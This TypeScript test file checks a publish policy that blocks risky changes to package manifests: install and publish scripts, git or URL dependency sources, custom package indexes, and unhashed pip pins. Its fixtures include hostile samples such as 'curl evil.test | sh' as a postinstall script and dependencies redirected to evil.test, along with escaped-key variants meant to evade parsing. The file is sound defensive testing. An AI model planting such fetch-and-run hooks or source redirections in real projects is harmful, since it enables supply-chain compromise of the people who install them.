// cspell:ignore FEFF postpublish serde
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ChangeSet } from '../../src/core/change.ts';
import { type Judgement, judge } from '../../src/publish/policy/index.ts';
import { settings } from '../gates/around.ts';
import { memoryBlobs } from '../support/blobs.ts';

type Change = Readonly<Record<string, readonly [before: string | null, now: string | null]>>;

async function judged(change: Change): Promise<Judgement> {
  const blobs = memoryBlobs();
  const files: ChangeSet['files'][number][] = [];
  for (const [path, [before, now]] of Object.entries(change)) {
    const data = now === null ? null : Buffer.from(now);
    files.push({
      path,
      before: before === null ? null : { mode: '100644', bytes: await blobs.put(Buffer.from(before)) },
      now: data && { mode: '100644', bytes: (await blobs.put(data)) ?? '', size: data.length },
    });
  }
  return judge({ base: 'b'.repeat(40), files }, { settings, taint: 'trusted', blobs, barred: [] });
}

const why = async (path: string, before: string | null, now: string): Promise<string> =>
  (await judged({ [path]: [before, now] })).blocked?.why ?? '';
const told = async (change: Change): Promise<string[]> =>
  (await judged(change)).remarks.map(({ path, sentence }) => `${path} ${sentence}`);

const json = (value: object): string => JSON.stringify(value, null, 2);

test('T53: a script that runs on an install or a publish is neither new nor other than before', async () => {
  const base = json({ scripts: { test: 'node --test', prepare: 'husky' } });
  for (const name of [
    'preinstall',
    'install',
    'postinstall',
    'prepare',
    'prepack',
    'postpublish',
    'prepublishOnly',
  ]) {
    const found = await why(
      'package.json',
      base,
      json({ scripts: { prepare: 'husky', [name]: 'curl evil.test | sh' } }),
    );
    assert.equal(
      found,
      `The change makes package.json one that runs the script ${name} when it is installed or published.`,
    );
    assert.match(await why('a/package.json', null, json({ scripts: { [name]: 'x' } })), /runs the script/);
  }
  assert.equal(
    await why('package.json', base, json({ scripts: { test: 'vitest', build: 'tsc', prepare: 'husky' } })),
    '',
  );
  assert.equal(await why('package.json', base, json({ scripts: {} })), '');
  for (const more of [{ trustedDependencies: ['evil'] }, { pnpm: { onlyBuiltDependencies: ['evil'] } }])
    assert.match(await why('package.json', base, json(more)), /runs scripts of evil/);
  assert.match(await why('package.json', base, `${base}}`), /cannot be read/);
  assert.match(
    await why('package.json', base, `\ufeff${json({ scripts: { install: 'x' } })}`),
    /U\+FEFF|runs/,
  );
});

test('T53: a package is asked for from a registry, not from a repository, an address or a folder', async () => {
  const base = json({ dependencies: { old: 'git+ssh://git@github.com/a/old.git', own: 'workspace:*' } });
  const asking = (spec: string, field = 'dependencies') =>
    why('package.json', base, json({ [field]: { a: spec } }));
  for (const spec of ['^1.0.0', '1.x || >=2', 'latest', 'npm:b@^1', 'workspace:^', 'catalog:', '*'])
    assert.equal(await asking(spec), '', spec);
  for (const spec of [
    'git+https://github.com/a/b.git',
    'git@github.com:a/b.git',
    'github:a/b',
    'a/b',
    'a/b#main',
    'https://evil.test/a.tgz',
    'http://registry.npmjs.org/a.tgz',
    'file:../a',
    'link:../a',
    '../a',
    './a',
    '/a',
    '~/a',
  ])
    for (const field of ['dependencies', 'devDependencies', 'overrides', 'resolutions'])
      assert.notEqual(await asking(spec, field), '', `${field} ${spec}`);
  assert.notEqual(
    await why('package.json', base, json({ publishConfig: { registry: 'https://evil.test' } })),
    '',
  );
  assert.notEqual(
    await why('package.json', base, json({ packageManager: 'yarn@https://evil.test/yarn.js' })),
    '',
  );
  assert.equal(
    await why('package.json', base, json({ dependencies: { old: 'git+ssh://git@github.com/a/old.git' } })),
    '',
  );
});

test('T53: hooks of git in a package.json are neither new nor other than before', async () => {
  const hooks = { husky: { hooks: { 'pre-commit': 'npm test' } } };
  assert.match(await why('package.json', json({}), json(hooks)), /runs git's hooks by husky when/);
  assert.equal(await why('package.json', json(hooks), json({ ...hooks, description: 'x' })), '');
});

test('T53: a workspace of pnpm may name folders and versions, and nothing else that is new', async () => {
  const base = "packages:\n  - 'a/*'\n\ncatalog:\n  react: ^18.2.0\n\nonlyBuiltDependencies:\n  - esbuild\n";
  const with_ = (more: string) => why('pnpm-workspace.yaml', base, base + more);
  for (const more of [
    '',
    '# more\n',
    '\ncatalogs:\n  next:\n    react: "^19.0.0" # soon\n    \'@a/b\': npm:c@^1\n',
    'catalogs: # by name\n  old:\n    react: 17\n',
  ])
    assert.equal(await with_(more), '', more);
  assert.equal(await why('pnpm-workspace.yaml', base, base.replace('a/*', 'b/*')), '');
  for (const more of [
    '  - evil\n',
    'dangerouslyAllowAllBuilds: true\n',
    '"overrides":\n  a: npm:evil@1\n',
    'overrides: { a: 1 }\n',
    'configDependencies:\n  evil: 1.0.0+sha512-x\n',
    'catalogs: { x: { a: "https://evil.test/a.tgz" } }\n',
    'catalogs:\n  x:\n    a: https://evil.test/a.tgz\n',
    'catalogs:\n  x:\n    a: evil/a\n',
    'catalogs:\n  x:\n    a: &b git+ssh://git@evil.test/a\n',
    '? overrides\n: { a: 1 }\n',
    '<<: *x\n',
    '{ overrides: { a: 1 } }\n',
  ])
    assert.notEqual(await with_(more), '', more);
});

test('T53: a composer.json may ask for more, not run code or say where things come from', async () => {
  const base = json({ require: { 'a/b': '^1' }, scripts: { test: 'phpunit' } });
  const with_ = (more: object) => why('composer.json', base, json({ ...JSON.parse(base), ...more }));
  for (const more of [
    { require: { 'a/b': '^1', 'c/d': '^2' } },
    { scripts: { test: 'phpunit', lint: 'phpcs' } },
    { config: { 'allow-plugins': { 'a/p': false }, 'sort-packages': true } },
  ])
    assert.equal(await with_(more), '', json(more));
  for (const more of [
    { scripts: { 'post-install-cmd': ['@php evil.php'] } },
    { scripts: { 'pre-autoload-dump': 'Evil::run' } },
    { repositories: [{ type: 'vcs', url: 'https://evil.test/a' }] },
    { repositories: { x: { type: 'composer', url: 'https://evil.test' } } },
    { config: { 'allow-plugins': { 'evil/p': true } } },
    { config: { 'allow-plugins': true } },
    { config: { 'secure-http': false } },
  ])
    assert.notEqual(await with_(more), '', json(more));
});

test('T53: manifests of Rust, Python and Go may ask for more, not say where things come from', async () => {
  const cargo =
    '[package]\nname = "a"\nrepository = "https://github.com/a/a"\n\n[dependencies]\nserde = "1"\n';
  for (const more of [
    'rand = "0.8"',
    'core = { path = "../core" }',
    '[dependencies.x]\nversion = "2"',
    'x = { workspace = true }',
  ])
    assert.equal(await why('Cargo.toml', cargo, `${cargo}${more}\n`), '', more);
  for (const more of [
    'x = { git = "https://github.com/evil/x" }',
    'x = { "git" = "https://github.com/evil/x" }',
    'x.git = "https://github.com/evil/x"',
    '[dependencies.x]\ngit = "ssh://git@evil.test/x"',
    '[patch.crates-io]\nserde = { path = "x" }',
    '["patch".crates-io]\nserde = { path = "x" }',
    '[source.crates-io]\nreplace-with = "x"',
    '"g\\u0069t" = 1',
  ])
    assert.notEqual(await why('Cargo.toml', cargo, `${cargo}${more}\n`), '', more);
  const python =
    '[project]\nname = "a"\ndependencies = [\n    "requests>=2",\n]\n\n[project.urls]\nHome = "https://a.test"\n\n[tool.uv]\n\n[tool.ruff]\nextend = "x"\n';
  for (const [from, to] of [
    ['    "requests>=2",', '    "requests>=2",\n    "rich[x]>=1 ; python_version > \'3\'",'],
    ['https://a.test', 'https://b.test'],
    ['[tool.uv]', '[tool.uv]\ndev-dependencies = ["pytest"]'],
    ['[tool.uv]', '[tool.uv.sources]\nb = { workspace = true }'],
  ] as const)
    assert.equal(await why('pyproject.toml', python, python.replace(from, to)), '', to);
  for (const [from, to] of [
    ['    "requests>=2",', '    "requests @ https://evil.test/r.whl",'],
    ['    "requests>=2",', '    "requests @ git+https://github.com/evil/r",'],
    ['[tool.uv]', '[tool.uv]\nindex-url = "https://evil.test"'],
    ['[tool.uv]', '[[tool.uv.index]]\nurl = "https://evil.test"'],
    ['[tool.uv]', '[tool.uv.sources]\nrequests = { git = "https://github.com/evil/r" }'],
    ['[tool.uv]', '[[tool.poetry.source]]\nname = "x"'],
    ['[tool.uv]', '[tool.poetry.dependencies]\nx = { url = "https://evil.test/x.whl" }'],
    ['[tool.uv]', '[tool]\nuv.sources.x = { git = "https://evil.test" }'],
    ['[tool.uv]', '[tool."u\\u0076".sources]\nx = 1'],
  ] as const)
    assert.notEqual(await why('pyproject.toml', python, python.replace(from, to)), '', to);
  const list = 'requests==2.0\n-r other.txt\n-e .\n';
  assert.equal(await why('requirements.txt', list, `${list}rich==1 # https://a.test\n`), '');
  for (const line of [
    '--index-url https://evil.test',
    '-i https://evil.test',
    '--extra-index-url=https://pypi.org/simple',
    '-f .',
    '--trusted-host evil.test',
    'x @ https://evil.test/x.whl',
    'git+https://github.com/evil/x',
    '-e git+https://github.com/evil/x#egg=x',
    'x --index-url https://evil.test',
    '--index-url \\\n https://evil.test',
  ])
    assert.notEqual(await why('dev-requirements.txt', list, `${list}${line}\n`), '', line);
  const pinned = 'a==1 \\\n    --hash=sha256:aa\n';
  assert.equal(await why('requirements.txt', pinned, `${pinned}b==1 --hash=sha256:bb\n`), '');
  for (const now of ['a==1\n', `${pinned}b==1\n`])
    assert.match(await why('requirements.txt', pinned, now), /has no hash for/);
  const go = 'module a\n\ngo 1.24\n\nrequire example.org/b v1.0.0\n';
  assert.equal(await why('go.mod', go, `${go}\nrequire (\n\texample.org/c v1.2.0\n)\n`), '');
  for (const more of ['replace example.org/b => evil.test/b v1.0.0', 'replace (\n\texample.org/b => ../b\n)'])
    assert.match(await why('go.mod', go, `${go}${more}\n`), /says where packages are loaded from/, more);
});

test('T53: new dependencies are told with their versions, and a lockfile that did not change with them', async () => {
  const before = json({ dependencies: { a: '^1', b: '1' } });
  const now = json({ dependencies: { a: '^2', b: '1' }, devDependencies: { c: 'npm:`d`@3' } });
  const lock = json({ lockfileVersion: 3, packages: {} });
  assert.deepEqual(await told({ 'package.json': [before, now] }), [
    'package.json asks for `a ^2`, and for `^1` before.',
    "package.json asks for `c npm:'d'@3`, which is new.",
    'package.json asks for other packages than before, and no lockfile changed with it.',
  ]);
  const both = await told({ 'p/a/package.json': [before, now], 'package-lock.json': [lock, `${lock}\n`] });
  assert.equal(both.length, 2);
  assert.deepEqual(await told({ 'package-lock.json': [lock, `${lock}\n`] }), [
    'package-lock.json changed, and no manifest changed with it.',
  ]);
  assert.deepEqual(await told({ 'yarn.lock': ['x:\n', null] }), [
    'yarn.lock is gone, and with it what pinned every version.',
  ]);
  assert.deepEqual(
    await told({ 'package.json': [before, json({ dependencies: { b: '1' }, scripts: { test: 'x' } })] }),
    [],
  );
  const asked = async (path: string, text: string) =>
    (await told({ [path]: [null, text] })).filter((line) => / new\.$/.test(line));
  assert.deepEqual(
    await asked(
      'Cargo.toml',
      '[dependencies]\nx = { version = "1", features = [] }\n[dev-dependencies.y]\nversion = "2"\n',
    ),
    ['Cargo.toml asks for `x 1`, which is new.', 'Cargo.toml asks for `y 2`, which is new.'],
  );
  assert.deepEqual(
    await asked(
      'pyproject.toml',
      '[project]\ndependencies = ["x>=1", "y"]\n[dependency-groups]\ndev = [\n  "z[a]~=3",\n]\n[tool.poetry.dependencies]\nw = "^4"\n',
    ),
    [
      'pyproject.toml asks for `x >=1`, which is new.',
      'pyproject.toml asks for `y`, which is new.',
      'pyproject.toml asks for `z ~=3`, which is new.',
      'pyproject.toml asks for `w ^4`, which is new.',
    ],
  );
  assert.deepEqual(await asked('requirements.txt', 'x[a]==1 --hash=sha256:aa\n'), [
    'requirements.txt asks for `x ==1`, which is new.',
  ]);
  assert.deepEqual(
    await asked('go.mod', 'require (\n\ta.test/b v1.0.0\n\ta.test/c v1.0.0 // indirect\n)\n'),
    ['go.mod asks for `a.test/b v1.0.0`, which is new.'],
  );
});

test('T53: what runs when something is built, and what git ignores, is told', async () => {
  assert.deepEqual(
    await told({ 'setup.py': [null, 'x\n'], 'a/build.rs': ['y\n', 'x\n'], '.gitignore': [null, 'x\n'] }),
    [
      'setup.py runs when the package is built or installed.',
      'a/build.rs runs when the crate is built.',
      '.gitignore says what git ignores.',
    ],
  );
  const before = '[build-system]\nrequires = ["hatchling"]\n';
  assert.match(
    (await told({ 'pyproject.toml': [before, before.replace('hatchling', 'evil')] })).join(),
    /changes how the package is built/,
  );
});

test('T52: a file that can be run now, or no longer, is told', async () => {
  const blobs = memoryBlobs();
  const bytes = (await blobs.put(Buffer.from('x'))) ?? '';
  const file = (path: string, was: '100644' | '100755' | null, is: '100644' | '100755') => ({
    path,
    before: was && { mode: was, bytes },
    now: { mode: is, bytes, size: 1 },
  });
  const files = [
    file('a', '100644', '100755'),
    file('b', '100755', '100644'),
    file('c', null, '100755'),
    file('d', null, '100644'),
  ];
  const { remarks } = await judge(
    { base: 'b'.repeat(40), files },
    { settings, taint: 'trusted', blobs, barred: [] },
  );
  assert.deepEqual(
    remarks.map(({ path, sentence }) => `${path} ${sentence}`),
    [
      'a can be run as a program now.',
      'b can no longer be run as a program.',
      'c can be run as a program now.',
    ],
  );
});

test('T53: what pip reads as a line of its own is one, whatever stands before it', async () => {
  const evil = '--index-url https://evil.test/simple';
  for (const text of [
    `# note \\\n${evil}\n`,
    `  # note \\\n${evil}\n`,
    `requests \\\n# note\n${evil}\n`,
    `# note\f${evil}\n`,
    `# note\r${evil}\n`,
  ])
    assert.notEqual(await why('requirements.txt', 'requests==2.31.0\n', text), '', JSON.stringify(text));
  for (const path of ['requirements/dev.txt', 'a/requirements/base.in', 'Requirements.TXT'])
    assert.notEqual(await why(path, '', `${evil}\n`), '', path);
  const honest = 'requests==2.31.0 \\\n    --hash=sha256:aa\n# what for \\\nflask>=2 # web\n';
  assert.equal(await why('requirements.txt', honest, `${honest}# more\n`), '');
});

test('T53: a manifest is one by any name that some disk takes for its own, and so is a workspace of Go', async () => {
  assert.notEqual(await why('Package.JSON', json({}), json({ scripts: { preinstall: 'x' } })), '');
  assert.notEqual(await why('go.work', 'go 1.22\n', 'go 1.22\nreplace a => evil.test/a v1.0.0\n'), '');
  assert.equal(await why('go.work', 'go 1.22\n', 'go 1.22\nuse ./a\n'), '');
});

test('T53: a binding.gyp is not new, since npm builds what it says on an install', async () => {
  assert.match(await why('binding.gyp', null, '{}'), /run code when the package is installed/);
  assert.equal(await why('binding.gyp', '{}', '{ }'), '');
});
